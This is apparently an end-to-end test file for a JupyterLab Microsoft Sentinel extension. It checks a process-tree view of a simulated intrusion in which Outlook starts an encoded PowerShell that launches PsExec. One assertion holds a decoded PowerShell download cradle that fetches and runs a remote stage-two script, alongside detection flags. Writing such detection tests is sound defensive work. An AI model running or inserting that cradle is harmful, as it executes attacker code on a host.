import { expect, test } from '@jupyterlab/galata';
import type { Locator, Page } from '@playwright/test';
import { randomUUID } from 'crypto';
import { readFileSync } from 'fs';
import {
  cellRan,
  createBookmarkNamed,
  kernelIdle,
  openBookmarkDialog,
  proposedEntities,
  runKqlToResult
} from './helpers';

// Galata's layout mock intercepts every URL containing `/api/workspaces`, our REST API's included.
test.use({ mockState: false });

/**
 * The processes on adele.vance's workstation around the encoded PowerShell (demo STORY.md stage 5),
 * up to the PsExec of stage 6: found from the command line, not from a date.
 */
const WORKSTATION_PROCESSES = `let t = toscalar(DeviceProcessEvents
  | where FileName =~ "powershell.exe" and ProcessCommandLine has "-enc"
  | summarize min(TimeGenerated));
DeviceProcessEvents
| where DeviceName startswith "wks-0042." and TimeGenerated between ((t - 2h) .. (t + 1h))
| project TimeGenerated, DeviceName, AccountName, FileName, FolderPath, ProcessCommandLine,
    ProcessId, InitiatingProcessFileName, InitiatingProcessCommandLine, InitiatingProcessId
| order by TimeGenerated asc`;

/** The result's view switcher button of a view. */
function viewButton(cell: Locator, view: string): Locator {
  return cell.locator(`.jp-SentinelResult-views [data-view="${view}"]`);
}

/** Tree items (relative to where they are used) whose own line has the name `name`. */
function named(page: Page, name: RegExp): Locator {
  return page.locator('[role="treeitem"]').filter({
    has: page.locator(
      ':scope > .jp-SentinelProcessTree-row .jp-SentinelProcessTree-name',
      { hasText: name }
    )
  });
}

/** Items among `items` whose command line has `text`. */
function running(page: Page, items: Locator, text: RegExp): Locator {
  return items.filter({
    has: page.locator(':scope > .jp-SentinelProcessTree-command', {
      hasText: text
    })
  });
}

test.describe('Process tree view', () => {
  test.beforeEach(async ({ page }) => {
    await page.waitForFunction(
      () => window.jupyterapp.commands.isEnabled('sentinel:run-query'),
      undefined,
      { timeout: 120_000 }
    );
  });

  test('draws the encoded PowerShell under Outlook on its host, selects it into the grid and a bookmark', async ({
    page
  }) => {
    await page.notebook.createNew('process-tree.ipynb');
    await kernelIdle(page);
    await page.notebook.selectCells(0);
    const cell = await runKqlToResult(page, 1, WORKSTATION_PROCESSES);
    await cellRan(page, 2);

    await viewButton(cell, 'process-tree').click();
    await expect(viewButton(cell, 'process-tree')).toHaveAttribute(
      'aria-pressed',
      'true'
    );
    const tree = cell.locator('.jp-SentinelProcessTree [role="tree"]');
    await expect(
      tree.locator('[aria-level="1"] > .jp-SentinelProcessTree-row')
    ).toContainText('wks-0042.contoso.example');

    // Outlook started the encoded PowerShell, which started PsExec: one branch, flags with reasons.
    const encoded = running(page, named(page, /^powershell\.exe$/), /-enc /);
    const powershell = tree.locator(encoded);
    await expect(powershell).toHaveCount(1);
    const outlook = tree
      .locator(named(page, /^OUTLOOK\.EXE$/))
      .filter({ has: encoded });
    await expect(outlook).toHaveCount(1);
    await expect(
      powershell.locator(
        ':scope > .jp-SentinelProcessTree-row .jp-SentinelProcessTree-flag'
      )
    ).toHaveText([
      'Encoded PowerShell',
      'Download cradle',
      'Started by Office'
    ]);
    await expect(
      powershell.locator(':scope > .jp-SentinelProcessTree-reasons')
    ).toContainText(
      "decodes to: IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/stage2.ps1')"
    );
    const psexec = powershell.locator(
      running(page, named(page, /^PsExec64\.exe$/), /\\\\SRV-FILE01/)
    );
    await expect(psexec).toHaveCount(1);
    await expect(psexec).toHaveAttribute(
      'aria-level',
      String(Number(await powershell.getAttribute('aria-level')) + 1)
    );
    await expect(
      psexec.locator(
        ':scope > .jp-SentinelProcessTree-row .jp-SentinelProcessTree-flag'
      )
    ).toHaveText(['Living off the land']);

    // Click the PowerShell, Ctrl+click PsExec to add it.
    await powershell
      .locator(
        ':scope > .jp-SentinelProcessTree-row .jp-SentinelProcessTree-name'
      )
      .click();
    await expect(powershell).toHaveAttribute('aria-selected', 'true');
    await psexec
      .locator(
        ':scope > .jp-SentinelProcessTree-row .jp-SentinelProcessTree-name'
      )
      .click({ modifiers: ['ControlOrMeta'] });
    await expect(psexec).toHaveAttribute('aria-selected', 'true');
    await expect(powershell).toHaveAttribute('aria-selected', 'true');

    // The grid holds the same two rows: the bookmark stores them with their entities.
    await page.notebook.selectCells(1);
    const dialog = await openBookmarkDialog(page);
    await expect(dialog).toContainText('2 rows are stored with the bookmark.');
    const proposed = await proposedEntities(dialog);
    expect(proposed).toContain('wks-0042.contoso.example');
    expect(proposed).toContain('PsExec64.exe');
    const name = `Process tree evidence ${randomUUID().slice(0, 8)}`;
    await createBookmarkNamed(page, dialog, name);

    // Collapse the host from the keyboard; Right opens it again.
    const host = tree.locator('[aria-level="1"]').first();
    await host.locator(':scope > .jp-SentinelProcessTree-row').click();
    await host.press('ArrowLeft');
    await expect(host).toHaveAttribute('aria-expanded', 'false');
    await expect(powershell).toHaveCount(0);
    await host.press('ArrowRight');
    await expect(host).toHaveAttribute('aria-expanded', 'true');
    await expect(powershell).toHaveCount(1);

    // Export SVG: the expanded tree as text.
    const download = page.waitForEvent('download');
    await cell.getByRole('button', { name: 'Export the view as SVG' }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/-process-tree\.svg$/);
    const svg = readFileSync((await file.path())!, 'utf-8');
    expect(svg).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
    expect(svg).toContain('>PsExec64.exe</tspan>');
  });

  test('is unavailable without process columns, and says which it needs', async ({
    page
  }) => {
    await page.notebook.createNew('process-tree-unavailable.ipynb');
    await kernelIdle(page);
    await page.notebook.selectCells(0);
    const cell = await runKqlToResult(
      page,
      1,
      'SigninLogs | project TimeGenerated, UserPrincipalName, IPAddress | take 5'
    );
    const button = viewButton(cell, 'process-tree');
    await expect(button).toHaveAttribute('aria-disabled', 'true');
    await expect(button).toHaveAttribute(
      'title',
      /needs a process, its parent and a time.*InitiatingProcessId.*ParentProcessName/
    );
  });
});
